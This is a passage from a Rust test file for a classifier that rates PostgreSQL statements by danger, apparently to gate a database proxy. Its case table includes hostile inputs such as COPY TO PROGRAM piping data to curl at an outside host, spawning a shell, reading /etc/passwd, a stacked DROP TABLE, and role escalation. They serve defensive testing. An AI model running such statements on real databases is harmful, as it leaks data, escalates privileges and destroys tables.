        "update t set a = 1 where b in (select b from s)",
        &[C::Write],
        &["s"],
        &["t"],
    ),
    (
        "update t set a = s.a from s where t.id = s.id",
        &[C::Write],
        &["s"],
        &["t"],
    ),
    ("delete from t where id = 1", &[C::Write], &[], &["t"]),
    (
        "delete from t using s where t.id = s.id returning t.*",
        &[C::Write],
        &["s", "t"],
        &["t"],
    ),
    (
        "merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert (id) values (s.id)",
        &[C::Write],
        &["s"],
        &["t"],
    ),
    ("truncate t", &[C::Write], &[], &["t"]),
    (
        "with x as (delete from t returning *) select * from x",
        &[C::Write],
        &["t"],
        &["t"],
    ),
    (
        "with w as (insert into log values (1) returning id) select * from w",
        &[C::Write],
        &["log"],
        &["log"],
    ),
    (
        "select * from accounts where id = 1 for update",
        &[C::Write],
        &["accounts"],
        &["accounts"],
    ),
    (
        "select * from accounts for share",
        &[C::Write],
        &["accounts"],
        &["accounts"],
    ),
    ("explain analyze delete from t", &[C::Write], &[], &["t"]),
    (
        "explain (analyze, costs off) update t set a = 1",
        &[C::Write],
        &[],
        &["t"],
    ),
    (
        "prepare p as delete from t where id = $1",
        &[C::Write],
        &[],
        &["t"],
    ),
    (
        "lock table t in access exclusive mode",
        &[C::Write],
        &[],
        &["t"],
    ),
    ("notify ch, 'x'", &[C::Write], &[], &[]),
    // copy
    ("copy t to stdout", &[C::Copy], &["t"], &[]),
    ("copy t (a, b) from stdin", &[C::Copy], &[], &["t"]),
    (
        "copy (select * from t where x > 1) to stdout with (format csv)",
        &[C::Copy],
        &["t"],
        &[],
    ),
    (
        "copy (delete from t returning *) to stdout",
        &[C::Copy],
        &["t"],
        &["t"],
    ),
    // ddl
    ("select a into newt from t", &[C::Ddl], &["t"], &["newt"]),
    (
        "create table t2 as select * from t",
        &[C::Ddl],
        &["t"],
        &["t2"],
    ),
    (
        "create table t (id int primary key, v text default 'x')",
        &[C::Ddl],
        &[],
        &["t"],
    ),
    ("alter table t add column x int", &[C::Ddl], &[], &["t"]),
    ("drop table if exists a, b.c", &[C::Ddl], &[], &["a", "b.c"]),
    ("create index i on t (x)", &[C::Ddl], &[], &["t"]),
    (
        "create view v as select * from t",
        &[C::Ddl],
        &["t"],
        &["v"],
    ),
    (
        "create view v as select pg_sleep(1)",
        &[C::Ddl],
        &[],
        &["v"],
    ),
    (
        "create function f() returns int as $$ select 1; $$ language sql",
        &[C::Ddl],
        &[],
        &[],
    ),
    ("comment on table t is 'x'", &[C::Ddl], &[], &[]),
    ("vacuum t", &[C::Ddl], &[], &[]),
    ("create extension dblink", &[C::Ddl], &[], &[]),
    (
        "SELECT 1; DROP TABLE users",
        &[C::Read, C::Ddl],
        &[],
        &["users"],
    ),
    // functions
    ("select pg_sleep(1)", &[C::Function], &[], &[]),
    ("select nextval('seq')", &[C::Function], &[], &[]),
    ("select public.lower('A')", &[C::Function], &[], &[]),
    (r#"select "Lower"('a')"#, &[C::Function], &[], &[]),
    (
        "select * from dblink('conn', 'delete from t') as t(a int)",
        &[C::Function],
        &[],
        &[],
    ),
    ("select lo_export(1, '/tmp/x')", &[C::Function], &[], &[]),
    (
        "select set_config('role', 'admin', false)",
        &[C::Function],
        &[],
        &[],
    ),
    (
        "select * from t where a = 1 operator(myschema.+) 2",
        &[C::Function],
        &["t"],
        &[],
    ),
    (
        "select * from t where id = (select my_func(x) from s)",
        &[C::Function],
        &["t", "s"],
        &[],
    ),
    ("call myproc(1)", &[C::Function], &[], &[]),
    (
        "create materialized view mv as select pg_sleep(1)",
        &[C::Function],
        &[],
        &["mv"],
    ),
    ("update t set a = my_func(a)", &[C::Function], &[], &["t"]),
    // privilege
    ("grant select on t to bob", &[C::Privilege], &[], &[]),
    ("revoke all on t from bob", &[C::Privilege], &[], &[]),
    (
        "create role r login password 'x'",
        &[C::Privilege],
        &[],
        &[],
    ),
    ("alter role r superuser", &[C::Privilege], &[], &[]),
    ("drop role r", &[C::Privilege], &[], &[]),
    ("set role admin", &[C::Privilege], &[], &[]),
    ("set role = 'admin'", &[C::Privilege], &[], &[]),
    ("set session authorization bob", &[C::Privilege], &[], &[]),
    ("reset role", &[C::Privilege], &[], &[]),
    ("alter table t owner to bob", &[C::Privilege], &[], &["t"]),
    (
        "alter table t disable row level security",
        &[C::Privilege],
        &[],
        &["t"],
    ),
    (
        "create policy p on t using (true)",
        &[C::Privilege],
        &[],
        &[],
    ),
    ("copy t to program 'sh'", &[C::Privilege], &["t"], &[]),
    (
        "COPY t TO PROGRAM 'curl -d @- http://x'",
        &[C::Privilege],
        &["t"],
        &[],
    ),
    ("copy t from '/etc/passwd'", &[C::Privilege], &[], &["t"]),
    ("copy (select 1) to '/tmp/out'", &[C::Privilege], &[], &[]),
    // transaction and session
    (
        "begin; savepoint s; rollback to savepoint s; release savepoint s; commit",
        &[
            C::Transaction,
            C::Transaction,
            C::Transaction,
            C::Transaction,
            C::Transaction,
        ],
        &[],
        &[],
    ),
    (
        "start transaction isolation level serializable; end; abort; set transaction read only",
        &[
            C::Transaction,
            C::Transaction,
            C::Transaction,
            C::Transaction,
        ],
        &[],
        &[],
    ),
    (
        "set search_path to a, b; show search_path; reset all; discard all; listen ch; unlisten ch; deallocate p",
        &[
            C::Session,
            C::Session,
            C::Session,
            C::Session,
            C::Session,
            C::Session,
            C::Session,
        ],
        &[],
        &[],
    ),
    // unknown
    ("do $$ begin delete from t; end $$", &[C::Unknown], &[], &[]),
    ("this is not sql", &[C::Unknown], &[], &[]),
    ("selec 1", &[C::Unknown], &[], &[]),
    ("execute p(1)", &[C::Unknown], &[], &[]),
    ("select 'unterminated", &[C::Unknown], &[], &[]),
    (
        "select 1; garbage here; select 2",
        &[C::Read, C::Unknown, C::Read],
        &[],
        &[],
    ),
    (
        "select * from xmltable('/a' passing x columns a int)",
        &[C::Unknown],
        &[],
        &[],
    ),
];

fn flat(stmts: &[Statement], f: impl Fn(&Statement) -> &Vec<String>) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for s in stmts {
        for t in f(s) {
            if !out.contains(t) {
                out.push(t.clone());
            }
        }
    }
    out
}

#[test]
fn classification_table() {
    assert!(CASES.len() >= 40);
    let mut failures = Vec::new();
    for (sql, classes, reads, writes) in CASES {
        let got = classify(sql);
        let got_classes: Vec<C> = got.iter().map(|s| s.class).collect();
        let got_reads = flat(&got, |s| &s.reads);
        let got_writes = flat(&got, |s| &s.writes);
        if got_classes != *classes || got_reads != *reads || got_writes != *writes {
            failures.push(format!(
                "{sql}\n   want {classes:?} reads {reads:?} writes {writes:?}\n   got  {got_classes:?} reads {got_reads:?} writes {got_writes:?} notes {:?} errors {:?}",
                got.iter().map(|s| s.note).collect::<Vec<_>>(),
                got.iter().map(|s| s.parse_error.as_deref()).collect::<Vec<_>>(),
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn statement_details() {
    let s = classify("  SELECT 1 ;\n\n  DROP TABLE users ;  ");
    assert_eq!(s[0].text, "SELECT 1");
    assert_eq!(s[1].text, "DROP TABLE users");
    assert_eq!(most_dangerous(&s), Some(C::Ddl));
    assert!(classify("  ; -- nothing").is_empty());
    assert_eq!(most_dangerous(&[]), None);

    let s = &classify("select pg_sleep(1), count(*) from t")[0];
    assert_eq!(s.functions, ["pg_sleep", "count"]);
    assert!(s.note.is_some_and(|n| n.contains("allowlist")));

    let s = &classify("with x as (delete from t returning *) select * from x")[0];
    assert_eq!(s.note, Some("a WITH clause modifies data"));

    let s = &classify("with x as (select 1) insert into t select * from x")[0];
    assert_eq!((s.class, s.note), (C::Write, None));
    assert_eq!(s.writes, ["t"]);

    let s = &classify("insert into t select my_func()")[0];
    assert_eq!(s.class, C::Function);
    assert_eq!(s.functions, ["my_func"]);

    let s = &classify("DO $$ BEGIN END $$")[0];
    assert!(s.parse_error.is_some());
    assert_eq!(s.note, Some("DO runs an anonymous procedural code block"));

    let s = &classify("select 1 operator(pg_catalog.+) 2")[0];
    assert_eq!(s.class, C::Read);
    assert_eq!(s.functions, ["operator(pg_catalog.+)"]);
}

#[test]
fn classes_order_and_names() {
    assert!(C::Unknown > C::Privilege);
    assert!(C::Function.at_least(C::Write));
    assert!(!C::Read.at_least(C::Write));
    assert!(C::Copy > C::Write);
    for (i, c) in C::ALL.iter().enumerate() {
        assert_eq!(c.danger() as usize, i);
        assert_eq!(c.as_str().parse::<C>().unwrap(), *c);
        assert_eq!(c.to_string(), c.as_str());
    }
    assert!("reads".parse::<C>().is_err());
    let names: Vec<&str> = C::ALL.iter().map(|c| c.as_str()).collect();
    assert_eq!(
        names,
        [
            "transaction",
            "session",
            "read",
            "write",
            "copy",
            "ddl",
            "function",
            "privilege",
            "unknown"
        ]
    );
}

#[test]
fn deep_nesting_does_not_crash() {
    // On a thread with a 2 MiB stack, as a proxy task might have. Each of
    // these crashes the process if handed to sqlparser 0.64 as is.
    let handle = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(|| {
            let deep = [
                format!("select {}1{}", "(".repeat(5000), ")".repeat(5000)),
                format!("select {}1", "- ".repeat(5000)),
                format!("select {}true", "not ".repeat(5000)),
                format!("select {} 1", "(select ".repeat(2000)),
                format!("select * from {}t", "(select * from ".repeat(60)),
                format!(
                    "select * from t{}",
                    " join t".repeat(50_000) + &" on true".repeat(50_000)
                ),
                format!("select x{}", "::int".repeat(100_000)),
                format!("select x{}", " is null".repeat(100_000)),
                format!("select 1{}", " + 1".repeat(20_000)),
            ];
            for sql in &deep {
                let out = classify(sql);
                assert_eq!(out.len(), 1);
                assert_eq!(out[0].class, C::Unknown, "{}", &sql[..60]);
                let _ = fingerprint(sql);
            }
            // Long but legitimate statements are still analysed.
            let fine = [
                (
                    format!(
                        "select * from t where {}",
                        vec!["a = 1"; 2000].join(" and ")
                    ),
                    C::Read,
                ),
                (format!("select x{} from t", "[1]".repeat(5000)), C::Read),
                (
                    format!("select * from t{}", " join s on true".repeat(500)),
                    C::Read,
                ),
                (
                    format!(
                        "select * from t{}",
                        " join s".repeat(20) + &" on true".repeat(20)
                    ),
                    C::Read,
                ),
                (
                    format!(
                        "insert into t values {}",
                        vec!["(1, 'x', now(), -2::int)"; 5000].join(", ")
                    ),
                    C::Write,
                ),
                (
                    format!("select {}1{}", "(".repeat(30), ")".repeat(30)),
                    C::Read,
                ),
            ];
            for (sql, class) in &fine {
                let out = classify(sql);
                assert_eq!(out[0].class, *class, "{} {:?}", &sql[..60], out[0].note);
            }
        })
        .unwrap();
    handle.join().unwrap();
}

#[test]
fn random_sql_never_panics() {
    const PIECES: &[&str] = &[
        "select",
        "from",
        "where",
        "(",
        ")",
        ",",
        ";",
        "'",
        "\"",
        "$$",
        "$a$",
        "--",
        "/*",
        "*/",
        "e'\\'",
        "insert",
        "into",
        "values",
        "with",
        "as",
        "delete",
        "returning",
        "*",
        "t",
        "x.y",
        "1",
        "-",
        "::",
        "[",
        "]",
        "begin",
        "atomic",
        "end",
        "case",
        "create",
        "function",
        "copy",
        "to",
        "program",
        "é",
        "\n",
        " ",
        "$1",
        "u&'",
        "operator(",
        "for update",
        "into",
    ];
    let mut rng = Rng(42);
    for _ in 0..3000 {
        let n = rng.below(30);
        let sql: String = (0..n)
            .map(|_| PIECES[rng.below(PIECES.len())])
            .collect::<Vec<_>>()
            .join(if rng.below(2) == 0 { " " } else { "" });
        let out = classify(&sql);
        for s in &out {
            assert!(!s.text.is_empty());
        }
        let _ = fingerprint(&sql);
    }
}
